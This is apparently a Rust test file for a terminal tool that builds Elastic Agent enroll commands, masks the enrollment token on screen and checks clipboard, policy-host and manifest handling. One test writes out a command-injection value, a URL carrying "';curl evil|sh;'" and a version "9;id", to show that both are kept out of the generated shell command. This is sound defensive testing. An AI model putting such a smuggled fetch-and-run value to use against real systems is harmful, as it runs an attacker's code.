//! The enroll command: made of what the server says, copied with the secret, and never shown with it.

use fleet_tokens::app::effect::{Effect, FileContent};
use fleet_tokens::app::enroll::state::EnrollDialog;
use fleet_tokens::app::export::state::ExportDialog;
use fleet_tokens::app::msg::{Msg, Outcome};
use fleet_tokens::app::overlay::Overlay;
use fleet_tokens::app::request::RequestId;
use fleet_tokens::domain::clipboard::ClipboardBackend;
use fleet_tokens::domain::enroll::{EnrollFacts, FleetServerHost, Platform};
use fleet_tokens::domain::problem::ProblemKind;
use fleet_tokens::domain::secret::Secret;

use crate::support::{SECRET, Tab, facts, policies, problem, secret, tokens};

fn dialog(tab: &Tab) -> &EnrollDialog {
    match &tab.model.overlay {
        Some(Overlay::Enroll(dialog)) => dialog,
        other => panic!("no enroll command is open: {other:?}"),
    }
}

fn save(tab: &Tab) -> &ExportDialog {
    match &tab.model.overlay {
        Some(Overlay::Export(dialog)) => dialog,
        other => panic!("nothing is being saved: {other:?}"),
    }
}

fn asked(tab: &mut Tab) -> RequestId {
    match tab.effect() {
        Effect::FetchFacts(id) => id,
        other => panic!("{other:?}"),
    }
}

fn open() -> Tab {
    let mut tab = Tab::with_fleet(80, 24);
    tab.press("E");
    let id = asked(&mut tab);
    tab.done(id, Outcome::Facts(Box::new(facts())));
    tab
}

fn shown(tab: &Tab) -> String {
    dialog(tab).script().shown("***").join("\n")
}

/// Presses `c`, plays the server and the clipboard, and gives what was copied.
fn copied(tab: &mut Tab) -> Secret {
    tab.press("c");
    let effect = match tab.effect() {
        Effect::FetchSecret { id, token, .. } => {
            assert_eq!(token, dialog(tab).token.id);
            tab.done(id, Outcome::Secret(Ok(secret())));
            tab.effect()
        }
        effect => effect,
    };
    let Effect::Copy { id, secret, .. } = effect else { panic!("{effect:?}") };
    tab.done(id, Outcome::Copied(Ok(ClipboardBackend::System { stays: false }.into())));
    secret
}

#[test]
fn the_copy_is_whole_and_the_screen_is_masked() {
    let mut tab = open();
    tab.press("6");
    let text = copied(&mut tab);
    let last = text.expose().lines().last().unwrap();
    assert_eq!(
        last,
        format!("sudo ./elastic-agent install --url=https://fleet.example:8220 --enrollment-token={SECRET}")
    );
    assert_eq!(shown(&tab), text.expose().replace(SECRET, "***"));
    assert_eq!(tab.toast(), "Copied the enroll command of web-east to the clipboard. Clears in 45s");
    assert!(!format!("{:?}", tab.model).contains(&SECRET[..8]));
    assert!(tab.model.copying.is_none());
}

#[test]
fn one_that_asks_is_copied_without_reading_the_secret() {
    let mut tab = open();
    tab.press("8 t c");
    let Effect::Copy { secret, .. } = tab.effect() else { panic!("the secret was asked for") };
    assert!(secret.expose().contains("read -rs FLEET_ENROLLMENT_TOKEN"));
    assert!(!secret.expose().contains(SECRET));
}

#[test]
fn a_policys_own_host_is_the_one() {
    let mut with_host = policies();
    with_host[0].fleet_server_host_id = Some("lab".into());
    let mut tab = Tab::with(80, 24, tokens(), with_host);
    tab.press("E");
    let id = asked(&mut tab);
    tab.done(id, Outcome::Facts(Box::new(facts())));
    assert!(shown(&tab).contains("--url=https://lab.example:8220"));
}

#[test]
fn a_policy_that_comes_late_brings_its_host_and_a_later_one_changes_nothing() {
    let mut tab = Tab::waiting(80, 24);
    tab.answer_tokens(tokens()).take_effects();
    tab.press("E");
    let id = asked(&mut tab);
    tab.done(id, Outcome::Facts(Box::new(facts())));
    assert!(!dialog(&tab).policy_known && shown(&tab).contains("--url=https://fleet.example:8220"));
    let mut with_host = policies();
    with_host[0].fleet_server_host_id = Some("lab".into());
    tab.answer_policies(with_host);
    assert!(dialog(&tab).policy_known && shown(&tab).contains("--url=https://lab.example:8220"));
    tab.send(Msg::Action(fleet_tokens::app::action::Action::Back));
    tab.press("E R");
    let id = tab.take_effects().into_iter().find_map(|effect| match effect {
        Effect::FetchFacts(id) => Some(id),
        _ => None,
    });
    tab.done(id.unwrap(), Outcome::Facts(Box::new(facts())));
    assert!(shown(&tab).contains("--url=https://lab.example:8220"));
}

#[test]
fn nothing_is_copied_before_the_address_is_known() {
    let mut tab = Tab::with_fleet(80, 24);
    tab.press("E c");
    assert_eq!(tab.take_effects().len(), 1, "only what was asked for when it opened");
    assert_eq!(tab.toast(), "The Fleet Server's address is still being read");
}

#[test]
fn without_an_address_kibanas_word_is_copied() {
    let mut tab = Tab::with_fleet(80, 24);
    tab.press("E");
    let id = asked(&mut tab);
    let failed = problem(ProblemKind::Forbidden);
    tab.done(id, Outcome::Facts(Box::new(EnrollFacts { hosts: Err(failed.clone()), version: Err(failed) })));
    tab.press("6");
    let text = copied(&mut tab);
    assert!(text.expose().contains("--url=FLEET_SERVER_HOST "));
    assert!(text.expose().contains("elastic-agent-AGENT_VERSION-linux-x86_64"));
}

#[test]
fn a_hostile_server_gets_nothing_into_the_shell() {
    let mut tab = Tab::with_fleet(80, 24);
    tab.press("E");
    let id = asked(&mut tab);
    let evil = "https://x/';curl evil|sh;'";
    let host = FleetServerHost { id: "h".into(), urls: vec![evil.into()], is_default: true, proxy: Ok(None) };
    tab.done(
        id,
        Outcome::Facts(Box::new(EnrollFacts { hosts: Ok(vec![host]), version: Ok(Some("9;id".into())) })),
    );
    assert!(shown(&tab).contains("--url=FLEET_SERVER_HOST"), "{}", shown(&tab));
    assert!(!shown(&tab).contains("evil") && !shown(&tab).contains(";id"));
}

#[test]
fn digits_and_arrows_choose_and_the_choice_is_kept() {
    let mut tab = open();
    assert_eq!(dialog(&tab).platform, Platform::LinuxArm, "as in Kibana");
    tab.press("j <down> k 9");
    assert_eq!(dialog(&tab).platform, Platform::Rpm);
    tab.press("<esc> j E");
    assert_eq!(dialog(&tab).platform, Platform::Rpm);
    tab.press("<esc>");
    assert!(tab.model.overlay.is_none());
}

#[test]
fn options_are_toggled_and_the_path_is_typed() {
    let mut tab = open();
    tab.press("6 a").write("/etc/ca t9.pem").press("<enter> i");
    assert!(
        shown(&tab).ends_with(" '--certificate-authorities=/etc/ca t9.pem' --insecure"),
        "{}",
        shown(&tab)
    );
    tab.press("i a");
    assert!(shown(&tab).ends_with("--enrollment-token=***"));
    tab.press("a <esc>");
    assert!(dialog(&tab).authority.is_none() && !dialog(&tab).typing, "an empty path is none");
    tab.press("a").send(Msg::Paste("/a\u{1b}\"b\n".into()));
    assert!(dialog(&tab).authority().is_err());
    assert!(!shown(&tab).contains("--certificate-authorities"), "left out, and said");
}

#[test]
fn a_dead_token_is_copied_with_a_warning() {
    let mut tab = Tab::with_fleet(80, 24);
    tab.press("3 E");
    let id = asked(&mut tab);
    tab.done(id, Outcome::Facts(Box::new(facts())));
    copied(&mut tab);
    assert_eq!(
        tab.toast(),
        "This token can no longer enroll agents. Copied the enroll command of web-blue to the clipboard. Clears in 45s"
    );
}

#[test]
fn closing_it_drops_the_request_and_a_late_answer_opens_nothing() {
    for way in ["<esc>", "<c-c>"] {
        let mut tab = Tab::with_fleet(80, 24);
        tab.press("E");
        let id = asked(&mut tab);
        tab.press(way);
        assert_eq!(tab.take_effects(), [Effect::Cancel(id)], "{way}");
        tab.done(id, Outcome::Facts(Box::new(facts())));
        assert!(tab.model.overlay.is_none());
    }
}

#[test]
fn the_manifest_is_saved_from_kubernetes_and_the_command_names_it() {
    let mut tab = open();
    tab.press("e");
    assert_eq!(tab.toast(), "Only Kubernetes has a manifest");
    tab.press("0 t");
    assert!(tab.toast().contains("FLEET_CA") && !dialog(&tab).ask);
    tab.press("e");
    assert_eq!(save(&tab).path.value(), "elastic-agent-managed-kubernetes.yml");
    assert_eq!(dialog(tab.press("<esc>")).platform, Platform::Kubernetes, "back to where it was opened");
    tab.press("e <enter>");
    let Effect::Save { id, path, overwrite, content } = tab.effect() else { panic!() };
    assert_eq!((path.as_str(), overwrite), ("elastic-agent-managed-kubernetes.yml", false));
    let FileContent::Manifest { token, host, .. } = content else { panic!() };
    assert_eq!((token, host.as_str()), (tokens()[0].id.clone(), "https://fleet.example:8220"));
    tab.done(id, Outcome::Saved(Ok("/tmp/my agents.yml".to_owned())));
    assert_eq!(shown(&tab), "kubectl apply -f '/tmp/my agents.yml'");
    assert!(tab.toast().contains("The token stands in it"));
}

#[test]
fn there_is_no_manifest_without_an_address() {
    let mut tab = Tab::with_fleet(80, 24);
    tab.press("E");
    let id = asked(&mut tab);
    tab.done(id, Outcome::Facts(Box::new(EnrollFacts { hosts: Ok(Vec::new()), version: Ok(None) })));
    tab.press("0 e");
    assert!(tab.toast().contains("Can't save the manifest"));
    assert!(matches!(tab.model.overlay, Some(Overlay::Enroll(_))));
}

#[test]
fn without_a_token_there_is_nothing_to_enroll_with() {
    let mut tab = Tab::with(80, 24, Vec::new(), policies());
    assert_eq!(tab.press("E").toast(), "No token is selected");
    assert!(tab.model.overlay.is_none());
}
